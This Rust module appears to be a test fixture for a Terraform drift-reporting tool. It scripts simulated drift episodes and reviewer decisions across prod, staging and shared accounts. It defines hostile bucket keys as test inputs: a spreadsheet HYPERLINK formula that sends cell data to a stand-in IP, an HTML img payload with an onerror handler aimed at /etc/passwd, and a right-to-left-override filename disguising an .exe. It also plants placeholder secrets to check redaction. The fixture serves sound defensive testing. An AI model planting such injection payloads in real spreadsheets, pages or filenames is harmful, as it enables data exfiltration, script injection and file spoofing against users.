//! What happens in the story, and when.

use chrono::{DateTime, TimeDelta, Utc};
use serde_json::{Value, json};

use super::{Calendar, Decision};

/// A `for_each` key that a spreadsheet would run.
pub(super) const FORMULA: &str = "=HYPERLINK(\"http://203.0.113.7/?\"&A1,\"invoice\")";
/// A `for_each` key that a browser would load.
pub(super) const MARKUP: &str = "<img src=file:///etc/passwd onerror=alert(1)>";
/// A `for_each` key that reads backwards: RIGHT-TO-LEFT OVERRIDE before «txt.exe».
pub(super) const BIDI: &str = "invoice-\u{202e}txt.exe";

/// What is seen of a resource while an episode lasts.
#[derive(Debug, Clone)]
pub(super) enum Sight {
    /// Its attributes are no longer those of the state.
    Changed(Value),
    /// It was deleted outside Terraform.
    Missing,
    /// Terraform's configuration calls it by another address; nothing else.
    MovedFrom { address: &'static str },
}

/// A stretch of time in which scans see something about a resource.
#[derive(Debug, Clone)]
pub(super) struct Episode {
    pub(super) source: &'static str,
    pub(super) address: String,
    pub(super) sight: Sight,
    from: DateTime<Utc>,
    until: Option<DateTime<Utc>>,
    /// Seen by the scan that breaks off; the others are not.
    pub(super) survives_partial: bool,
}

impl Episode {
    pub(super) fn is_seen(&self, at: DateTime<Utc>) -> bool {
        self.from <= at && self.until.is_none_or(|until| at < until)
    }
}

/// What people decided at the end.
pub(super) const DECISIONS: &[Decision] = &[
    Decision {
        address: "module.app.aws_instance.api[1]",
        resolution: "accepted_risk",
        reason: "cost allocation tags are written by the billing tool; agreed with finance, reviewed each quarter",
    },
    Decision {
        address: "module.app.aws_cloudwatch_metric_alarm.cpu",
        resolution: "false_positive",
        reason: "the threshold is managed by the load test schedule, which restores it every night",
    },
];

/// Everything that happens.
pub(super) fn episodes(calendar: &Calendar) -> Vec<Episode> {
    let stage = Stage { calendar };
    [
        stage.exposure(),
        stage.operations(),
        stage.decided(),
        stage.moved(),
        stage.month_boundary(),
        stage.noise(),
        stage.others(),
    ]
    .concat()
}

struct Stage<'a> {
    calendar: &'a Calendar,
}

impl Stage<'_> {
    /// An episode of `prod`, from the morning of a day until the morning of another.
    fn prod(
        &self,
        address: &str,
        sight: Sight,
        from: u64,
        until: impl Into<Option<u64>>,
    ) -> Episode {
        self.on("prod", address, sight, (from, until.into()))
    }

    fn on(
        &self,
        source: &'static str,
        address: &str,
        sight: Sight,
        (from, until): (u64, Option<u64>),
    ) -> Episode {
        Episode {
            source,
            address: address.to_owned(),
            sight,
            from: self.calendar.at(from, 0),
            until: until.map(|day| self.calendar.at(day, 0)),
            survives_partial: false,
        }
    }

    /// Drift that appears, is fixed, and comes back.
    fn exposure(&self) -> Vec<Episode> {
        let open = || {
            let rules = json!([{"from_port": 22, "to_port": 22, "protocol": "tcp", "cidr_blocks": ["0.0.0.0/0"]}]);
            Sight::Changed(json!({"ingress": rules}))
        };
        let group = "module.network.aws_security_group.web[\"public\"]";
        let block = "module.data.aws_s3_bucket_public_access_block.logs";
        vec![
            self.prod(group, open(), 3, 5),
            self.prod(group, open(), 33, 40),
            self.prod(group, open(), 61, 63),
            self.prod(
                block,
                Sight::Changed(json!({"block_public_acls": false, "block_public_policy": false})),
                25,
                27,
            ),
            self.prod("module.network.aws_security_group.legacy", Sight::Missing, 45, 48),
        ]
    }

    fn operations(&self) -> Vec<Episode> {
        let policy = "{\"Statement\":[{\"Action\":\"*\",\"Effect\":\"Allow\",\"Resource\":\"*\"}]}";
        let mut resized = self.prod(
            "module.app.aws_instance.api[0]",
            Sight::Changed(json!({"instance_type": "m6i.2xlarge"})),
            8,
            56,
        );
        resized.survives_partial = true;
        vec![
            resized,
            self.prod(
                "module.data.aws_db_instance.main",
                Sight::Changed(
                    json!({"password": "never-in-a-pack-3", "backup_retention_period": 1}),
                ),
                12,
                15,
            ),
            self.prod(
                "module.access.aws_iam_role_policy.deploy",
                Sight::Changed(json!({"policy": policy})),
                66,
                77,
            ),
            self.prod(
                "module.data.aws_db_parameter_group.main",
                Sight::Changed(json!({"parameter": []})),
                58,
                None,
            ),
            self.prod(
                "module.app.aws_lb_listener.https",
                Sight::Changed(json!({"ssl_policy": "ELBSecurityPolicy-2016-08"})),
                85,
                None,
            ),
        ]
    }

    /// Drift that a person has decided about; scans go on seeing it.
    fn decided(&self) -> Vec<Episode> {
        let tags = json!({"Name": "api-1", "service": "api", "CostCenter": "4711"});
        vec![
            self.prod(
                "module.app.aws_instance.api[1]",
                Sight::Changed(json!({"tags": tags})),
                15,
                None,
            ),
            self.prod(
                "module.app.aws_cloudwatch_metric_alarm.cpu",
                Sight::Changed(json!({"threshold": 95})),
                18,
                None,
            ),
        ]
    }

    /// A finding whose resource gets another address while it is open, and is fixed under that.
    fn moved(&self) -> Vec<Episode> {
        let (before, after) = ("aws_instance.bastion", "module.access.aws_instance.bastion");
        let resized = || Sight::Changed(json!({"instance_type": "t3.large"}));
        vec![
            self.prod(before, resized(), 46, 50),
            self.prod(after, Sight::MovedFrom { address: before }, 50, 51),
            self.prod(after, resized(), 51, 55),
        ]
    }

    /// Seen twenty minutes before the end of the first month, gone twenty minutes after.
    fn month_boundary(&self) -> Vec<Episode> {
        let midnight = self.calendar.second_month;
        let mut episode = self.prod(
            "module.data.aws_kms_key.data",
            Sight::Changed(json!({"enable_key_rotation": false})),
            0,
            None,
        );
        episode.from = midnight - TimeDelta::hours(1);
        episode.until = Some(midnight);
        vec![episode]
    }

    /// Differences that mean nothing: an absent map against an empty one.
    fn noise(&self) -> Vec<Episode> {
        let empty = || Sight::Changed(json!({"tags": {}}));
        vec![
            self.prod("module.network.aws_subnet.private[\"a\"]", empty(), 10, 60),
            self.prod("module.network.aws_subnet.private[\"b\"]", empty(), 10, 60),
        ]
    }

    fn others(&self) -> Vec<Episode> {
        let public = || Sight::Changed(json!({"force_destroy": true}));
        let tenant =
            |key: &str| format!("module.tenants.aws_s3_bucket.tenant[{}]", Value::from(key));
        let staging = |address: &str, sight, days| self.on("staging", address, sight, days);
        vec![
            staging(
                "module.app.aws_lambda_function.import",
                Sight::Changed(
                    json!({"environment": [{"variables": {"TOKEN": "never-in-a-pack-4"}}], "timeout": 900}),
                ),
                (14, Some(28)),
            ),
            staging("module.app.aws_instance.api[0]", Sight::Missing, (35, Some(42))),
            staging(
                "module.app.aws_security_group.app",
                Sight::Changed(
                    json!({"egress": [{"protocol": "-1", "cidr_blocks": ["0.0.0.0/0"]}]}),
                ),
                (56, None),
            ),
            staging(&tenant(FORMULA), public(), (42, Some(63))),
            staging(&tenant(MARKUP), public(), (42, None)),
            staging(&tenant(BIDI), public(), (49, None)),
            self.on(
                "shared",
                "module.dns.aws_route53_record.apex",
                Sight::Changed(json!({"records": ["203.0.113.99"], "ttl": 60})),
                (70, Some(77)),
            ),
            self.on(
                "shared",
                "aws_cloudtrail.organization",
                Sight::Changed(json!({"enable_logging": false})),
                (28, Some(35)),
            ),
            self.on(
                "shared",
                "aws_guardduty_detector.main",
                Sight::Changed(json!({"enable": false})),
                (84, None),
            ),
        ]
    }
}
